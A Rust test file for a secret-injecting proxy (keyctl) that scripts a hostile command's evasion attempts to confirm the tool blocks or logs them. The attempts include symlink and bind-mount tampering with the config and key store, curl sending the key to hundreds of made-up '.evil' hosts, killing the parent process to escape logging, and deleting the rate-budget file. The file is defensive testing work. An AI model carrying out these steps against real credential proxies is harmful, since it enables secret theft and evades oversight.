//! What a command tries by the proxy that would rather have no limits and leave no traces: each way that was found once.

use crate::{
    proxying::{BASE_URL, SECRET, UPSTREAM, parsed, sandbox},
    sandbox::{KEYCTL, Sandbox},
};

/// Asks for a path of the host with the key, and says the status.
const STATUS: &str =
    "status() { curl -sS -o /dev/null -w '%{http_code} ' https://api.test$1 -H \"x-api-key: $KEY\" 2>/dev/null; }";

/// What a run of this script says, and what keyctl says of it.
fn told(sandbox: &Sandbox, more: &[&str], script: &str) -> (String, String) {
    let script = format!("{STATUS}\n{script}");
    let ran = sandbox.call(&[&["proxy", "run", "-k", "KEY"], more, &["--", "sh", "-c", &script]].concat()).run();
    sandbox.no_secret_in(&ran.output.stdout);
    (ran.stdout(), ran.stderr())
}

#[test]
#[cfg(target_os = "linux")]
fn a_confined_command_does_not_reach_the_configuration_where_a_link_leads_to() {
    let sandbox = sandbox("");
    let (link, dotfiles) = (sandbox.home().join(".config/keyctl/config.toml"), sandbox.outside().join("dotfiles"));
    let (middle, file) = (dotfiles.join("middle"), dotfiles.join("deep/config.toml"));
    std::fs::create_dir_all(dotfiles.join("deep")).expect("folder");
    std::fs::rename(&link, &file).expect("move");
    std::os::unix::fs::symlink("deep/config.toml", &middle).expect("link");
    std::os::unix::fs::symlink(&middle, &link).expect("link");
    let script = format!(
        "cd {}; for one in 'echo >> deep/config.toml' 'rm deep/config.toml' 'mv deep d' 'ln -sfn x middle' 'rm middle' 'echo > new'
        do sh -c \"$one\" 2>/dev/null && echo \"$one\"; done; status /x",
        dotfiles.display()
    );
    assert_eq!(told(&sandbox, &["--sandbox"], &script).0, "200 ");
}

#[test]
#[cfg(target_os = "linux")]
fn a_confined_command_does_not_reach_the_store_where_another_mount_has_it() {
    let may_mount = std::process::Command::new("unshare").args(["--mount", "true"]).status();
    if !may_mount.is_ok_and(|status| status.success()) {
        return;
    }
    let sandbox = sandbox("");
    let (there, part) = (sandbox.outside().join("again"), sandbox.outside().join("part"));
    for folder in [&there, &part] {
        std::fs::create_dir(folder).expect("folder");
    }
    // The whole home a second time, and the store's folder alone.
    let mount = format!(
        "mount --bind {} {} && mount --bind {} {} && exec \"$@\"",
        sandbox.home().display(),
        there.display(),
        sandbox.data("").display(),
        part.display()
    );
    let store = sandbox.data("");
    let below = store.strip_prefix(sandbox.home()).expect("in the home").display().to_string();
    let below = below.trim_end_matches('/');
    let script = format!(
        "for one in ~/{below} {}/{below} {}; do cat $one/identity.txt 2>&1 | grep -o 'Permission denied'; done
        sh -c ': >> {}/.config/keyctl/config.toml' 2>/dev/null || echo kept; echo > {}/free && echo free",
        there.display(),
        part.display(),
        there.display(),
        sandbox.project().display()
    );
    let call = sandbox.call(&["-q", "proxy", "run", "--sandbox", "-k", "KEY", "--", "sh", "-c", &script]);
    let ran = call.under(&["unshare", "--mount", "sh", "-c", &mount, "sh"]).run();
    assert_eq!(ran.stdout(), format!("{}kept\nfree\n", "Permission denied\n".repeat(3)), "{}", ran.stderr());
}

#[test]
fn a_command_that_makes_up_hosts_is_a_few_alerts_and_delays_no_revocation() {
    let sandbox = sandbox("");
    let script = format!(
        "for n in $(seq 300); do echo \"url = http://r$n.evil/\"; echo 'output = /dev/null'; done > all
        status /x; curl -s --parallel -K all -H \"authorization: Bearer $KEY\"
        {KEYCTL} -q revoke KEY --yes 2>/dev/null; sleep 0.8; status /x"
    );
    let (out, said) = told(&sandbox, &[], &script);
    assert_eq!(out, "200 403 ", "{said}");
    let of = |text: &str| said.lines().filter(|line| line.contains(text)).count();
    assert_eq!((of(".evil:80`: a host that"), of("more requests than these")), (20, 1), "{said}");
    let all = sandbox.call(&["history", "--json", "-n", "2000"]).run().stdout();
    let events: Vec<_> =
        all.lines().map(parsed).filter(|event| text(event, "outcome").contains("a host that")).collect();
    assert!((20..=130).contains(&events.len()), "{all}");
    // Each is counted, and none as one of a host that others were for.
    assert_eq!(events.iter().map(|event| event["times"].as_u64().unwrap_or(1)).sum::<u64>(), 300, "{all}");
    let named = events.iter().filter(|event| text(event, "host").contains(".evil"));
    assert!(named.map(|event| event["times"].as_u64().unwrap_or(1)).all(|times| times == 1), "{all}");
}

/// What an entry says of this.
fn text<'e>(event: &'e serde_json::Value, name: &str) -> &'e str {
    event[name].as_str().unwrap_or_default()
}

#[test]
fn a_request_with_keys_of_two_stores_is_written_down_in_both_also_where_keyctl_is_killed() {
    let sandbox = sandbox("");
    sandbox.call(&["-q", "store", "create", "work", "--keeper", "file"]).run().says("", "", 0);
    sandbox.set("work:WORK", "plain-secret-of-another-key").says("", "keyctl: kept `work:WORK`\n", 0);
    sandbox.configure(&format!("[[proxy.rules]]\nsecret = \"*\"\ndomain = \"api.test\"\n{}", UPSTREAM.there()));
    let both = "curl -sS -o /dev/null -w '%{http_code} ' -H \"x-api-key: $KEY\" -H \"authorization: Bearer $WORK\"";
    let script = format!(
        "{both} https://api.test/x; {both} https://api.test/slow >/dev/null 2>&1 & sleep 0.5; kill -9 $PPID; wait"
    );
    let (out, said) = told(&sandbox, &["-k", "WORK=work:WORK"], &script);
    assert_eq!(out, "200 ", "{said}");
    for (store, key) in [(&[][..], "KEY"), (&["--store", "work"], "WORK")] {
        let lines = sandbox.call(&[&["history", "--json"], store].concat()).run().stdout();
        let events: Vec<_> = lines.lines().map(parsed).filter(|event| event["ev"] == "proxy").collect();
        let paths: Vec<_> = events.iter().map(|event| event["path"].as_str().expect("a path")).collect();
        assert_eq!(paths, ["/x", "/slow"], "{lines}");
        assert_eq!(text(&events[0], "outcome"), "200", "{lines}");
        assert!(events.iter().all(|event| event["names"] == serde_json::json!([key])), "{lines}");
    }
}

#[test]
fn what_was_refused_and_gathered_is_counted_though_keyctl_is_killed() {
    let sandbox = sandbox("");
    let script = "for n in 1 2 3 4; do curl -sS -o /dev/null https://other.test/x; done; sleep 0.5; kill -9 $PPID";
    told(&sandbox, &[], script);
    let shown = sandbox.call(&["history", "--json"]).run();
    assert_eq!(shown.stderr(), "keyctl: a proxy was killed; 3 requests of it stood in no history yet\n");
    let events: Vec<_> = shown.stdout().lines().map(parsed).filter(|event| event["ev"] == "proxy").collect();
    let of = |event: &serde_json::Value| (event["times"].as_u64().unwrap_or(1), text(event, "outcome").to_owned());
    assert_eq!(
        events.iter().map(of).collect::<Vec<_>>(),
        [
            (1, "refused: a host without a rule".to_owned()),
            (3, "refused: keyctl was killed before it wrote down which".to_owned())
        ]
    );
}

#[test]
fn a_request_that_is_under_way_counts_for_the_next_run_though_the_file_of_the_budget_is_gone() {
    let sandbox = sandbox("limit = \"2/h\"\n");
    let script = format!(
        "status /slow & until [ -s {0} ]; do sleep 0.02; done; sleep 0.1; rm {0}; {KEYCTL} -q proxy run -k KEY -- sh -c '{1}
        status /x; status /x'; wait; status /x",
        sandbox.data("proxy.used").display(),
        STATUS.replace('\'', "'\\''")
    );
    assert_eq!(told(&sandbox, &[], &script).0, "200 429 200 429 ");
}

#[test]
fn the_command_does_not_choose_the_rule_whose_budget_counts() {
    let rules = "limit = \"1/h\"\npaths = [\"/dear/*\"]\nname = \"narrow\"\n[[proxy.rules]]\nname = \"wide\"\nsecret = \"KEY\"\ndomain = \"api.test\"\n";
    let sandbox = sandbox(&format!("{rules}{}{BASE_URL}", UPSTREAM.there()));
    let script = "by() { curl -sS --noproxy '*' -o /dev/null -w '%{http_code} ' \"$1\" -H \"x-api-key: $KEY\"; }
        status /dear/x; status /dear/x; by $API/dear/x; by ${API%/*}/wide/dear/x; by ${API%/*}/narrow/dear/x; by ${API%/*}/narrow/x";
    let (out, said) = told(&sandbox, &[], script);
    assert_eq!(out, "200 429 429 429 429 200 ", "{said}");
    assert!(!out.contains(SECRET));
}
